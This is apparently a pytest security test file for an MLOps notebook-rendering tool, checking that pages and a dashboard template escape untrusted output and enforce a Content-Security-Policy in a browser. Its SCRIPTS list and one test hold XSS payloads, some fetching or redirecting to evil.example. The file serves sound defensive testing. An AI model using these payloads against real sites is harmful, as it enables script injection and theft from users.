"The page of a step, the tower's template and the report, in a browser: text that came from anywhere stays text"
from html import unescape
from html.parser import HTMLParser

import pandas as pd
import pytest
from nbformat import NotebookNode

from mlops_nb.notebooks.page import RENDERERS, page_cells, page_html
from mlops_nb.releases.checks import QaCheck
from mlops_nb.releases.display import show_checks
from mlops_nb.tower.page import render_template

from tests.support.browser import look_at

SCRIPTS = ["<script>fetch('http://evil.example/')</script>", "<img src=x onerror=hit()>", "`<script>hit()</script>`",
           "``<img src=x onerror=hit()>``", "a\n\n<script>hit()</script>", "<svg onload=hit()>",
           "a|b | <script>hit()</script>",
           "<iframe src='data:text/html,<script>hit()</script>'></iframe>", "<a href='javascript:hit()' id=link>x</a>",
           "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "</code></table><script>hit()</script>",
           "<base href='http://evil.example/'>",
           "<form action='http://evil.example/'><input autofocus onfocus=hit()></form>",
           "<style>body{display:none}</style>", "]]><script>hit()</script>", "\x1b[31m<script>hit()</script>"]


def page(texts: list[str], author: str = "") -> str:
    outputs = [NotebookNode(output_type="display_data", data={kind: text}) for kind in RENDERERS for text in texts]
    outputs += [NotebookNode(output_type="stream", text=text) for text in texts]
    outputs += [NotebookNode(output_type="error", traceback=[text]) for text in texts]
    cells = [NotebookNode(cell_type="markdown", source=f"# T\n\n{author}\n\n## Run", metadata=NotebookNode()),
             NotebookNode(cell_type="code", source="x", metadata=NotebookNode(), outputs=outputs)]
    values = {text: text for text in texts}
    return page_html(texts[0], page_cells(NotebookNode(cells=cells), values, texts[0]))


class Markup(HTMLParser):
    "What a browser would take for more than text"
    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attributes):
        if tag in ("script", "svg", "iframe", "base", "form", "input", "object", "link"): self.found.append(tag)
        for name, value in attributes:
            foreign = name in ("href", "src") and not (value or "").startswith(("data:", "http"))
            acts = name.startswith("on") or foreign
            if acts and value != "x": self.found.append(f"{tag} {name}={value}")
            if name == "http-equiv" and value != "Content-Security-Policy": self.found.append(f"{tag} {value}")


@pytest.mark.parametrize("text", SCRIPTS)
def test_no_markup_comes_through(text):
    html, markup = page([text]), Markup()
    markup.feed(html)
    assert markup.found == [] and html.count("<style") == 1 and "Content-Security-Policy" in html


def test_a_value_is_shown_as_it_is():
    assert "&lt;script&gt;" in page(["<script>"]) and "<code>a|b</code>" in unescape(page(["a|b"]))


def watch(browser, path) -> tuple[list[str], str]:
    "Open a page; return what it asked for, and what its scripts did"
    tab, asked = browser.new_page(), []
    tab.on("request", lambda request: asked.append(request))
    tab.goto(path.as_uri())
    tab.evaluate("document.querySelectorAll('a[href^=javascript]').forEach(link => link.click())")
    title, seen = tab.title(), [request for request in asked if not request.url.startswith(("data:", "file:"))]
    sent = [request.url for request in seen if request.failure != "csp"]
    tab.close()
    return sent, title


ALL = [text.replace("hit()", "document.title='hit'") for text in SCRIPTS if "display:none" not in text]


def test_a_browser_runs_nothing_of_a_step(browser, tmp_path):
    path = tmp_path/"page.html"
    path.write_text(page(ALL), encoding="utf-8")
    asked, title = watch(browser, path)
    assert asked == [] and title != "hit"


def test_the_policy_holds_where_the_author_wrote_the_script(browser, tmp_path):
    "Even what no cleaning has touched, as the prose of a notebook, does not run"
    path = tmp_path/"page.html"
    script = "<script>document.title='hit'</script><img src=x onerror=\"document.title='hit'\">"
    script += "<script src='http://evil.example/'>"
    text = page(["x"], author=script + "</script>")
    assert "<script>document.title" in text
    path.write_text(text, encoding="utf-8")
    asked, title = watch(browser, path)
    assert asked == [] and title != "hit"


def test_the_tower_escapes_every_field(browser, tmp_path):
    from dataclasses import make_dataclass
    evil = ALL[0] + ALL[1] + ALL[9] + '"\'>'
    nothing = make_dataclass("Anything", ["lead", "leads", "chart", "first_day", "last_day", "set_aside", "heat_map",
                                          "others", "text", "features", "signals", "jobs", "total"])
    def made(**fields): return make_dataclass("Any", fields)(*fields.values())
    measure = made(signal=evil, metric=evil, value=evil, verdict=evil)
    feature = made(name=evil, anchor=evil, metric=evil, words=evil, chart=evil, measures=[measure],
                   distribution=evil)
    signal = make_dataclass("Signal", ["name", "type", "verdict"])(evil, evil, evil)
    event = make_dataclass("Event", ["day", "title", "breached", "acted", "reason", "chain", "acknowledged"])(
        evil, evil, evil, True, evil, [], evil)
    fields = ["version", "instead_of", "status", "day", "stages", "approved_by", "reason", "links"]
    release = make_dataclass("Release", fields)(
        evil, evil, evil, evil, [], evil, evil, [make_dataclass("Link", ["text", "href"])(evil, None)])
    job = make_dataclass("Job", ["id", "status", "time", "width", "reused", "steps", "pages"])(
        evil, evil, evil, evil, 1, 2, [make_dataclass("Link", ["text", "href"])(evil, evil)])
    part = nothing(evil, evil, evil, evil, evil, evil, evil, evil, evil, [feature], [signal], [job], evil)
    monitor = made(id=evil, name=evil, endpoint=evil, age=made(text=evil, stale=True), performance=part, drift=part)
    service = made(by=evil, latency=evil, errors=evil, load=evil, memory=evil)
    silence = made(what=evil, until=evil, by=evil, reason=evil)
    row = made(project=evil, anchor=evil, endpoint=evil, serving=evil, requests=evil, latency=evil, window=evil,
               look=evil, ages=[monitor.age])
    view = dict(
        id=evil, model=evil, sentence=evil, policy=evil, set_aside=evil, disk=evil,
        disks=evil, age=monitor.age, workspace=evil,
        tiles=[make_dataclass("Tile", ["name", "value", "note", "look"])(evil, evil, evil, evil)],
        monitors=[monitor], several=True, silences=[silence], evaluated=evil,
        slices=[made(name=evil, rows=evil, loss=evil)],
        traffic=[made(name=evil, chart=evil, mirrored=5, service=service)],
        events=[event], releases=[release], runs=part)
    text = render_template(
        "page.html.jinja", style="", model=evil, written=evil, sentence=evil, look=evil, parts={evil: evil},
        ranges={evil: evil}, overview=[row], views=[view | dict(id=""), view])
    assert "<script" not in text and "<img" not in text and "Content-Security-Policy" in text
    path = tmp_path/"tower.html"
    path.write_text(text, encoding="utf-8")
    asked, title = watch(browser, path)
    assert asked == [] and title != "hit"


@pytest.mark.parametrize("scheme, ground", [("light", "rgb(255, 255, 255)"), ("dark", "rgb(17, 21, 26)")])
def test_an_executed_notebook_can_be_read_in_light_and_in_dark(browser, tmp_path, scheme, ground):
    table = pd.DataFrame({f"column {at}": [at, 2.5] for at in range(12)})
    failed = show_checks([QaCheck("parity", False, "2 rows differ")]).data
    outputs = [NotebookNode(output_type="display_data", data={"text/html": text})
               for text in (table.to_html(), failed, "<p style='color:#333'>grey</p>")]
    drawing = {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>"}
    outputs += [NotebookNode(output_type="display_data", data=drawing),
                NotebookNode(output_type="stream", text="a long line of a log " * 20),
                NotebookNode(output_type="error", traceback=["ValueError: no"])]
    source = '@cached  # of Python\ndef area(r: float) -> str:\n    "In m"\n    return f"{3.14 * r:.1f}" if r else None'
    cells = [NotebookNode(cell_type="markdown", source="# T\n\nSee [it](https://example.com) and `x`.\n\n## Run",
                          metadata=NotebookNode()),
             NotebookNode(cell_type="code", source=source, metadata=NotebookNode(), outputs=outputs)]
    path = tmp_path/"page.html"
    shown = page_cells(NotebookNode(cells=cells), {"rows": "a/long/path" * 12}, "Step j/s")
    path.write_text(page_html("T", shown))
    problems, colours = look_at(browser, path, scheme, "body", "img", "[style*=fdecea]")
    assert problems == [] and colours == [ground, "rgb(255, 255, 255)", "rgb(253, 236, 234)"]
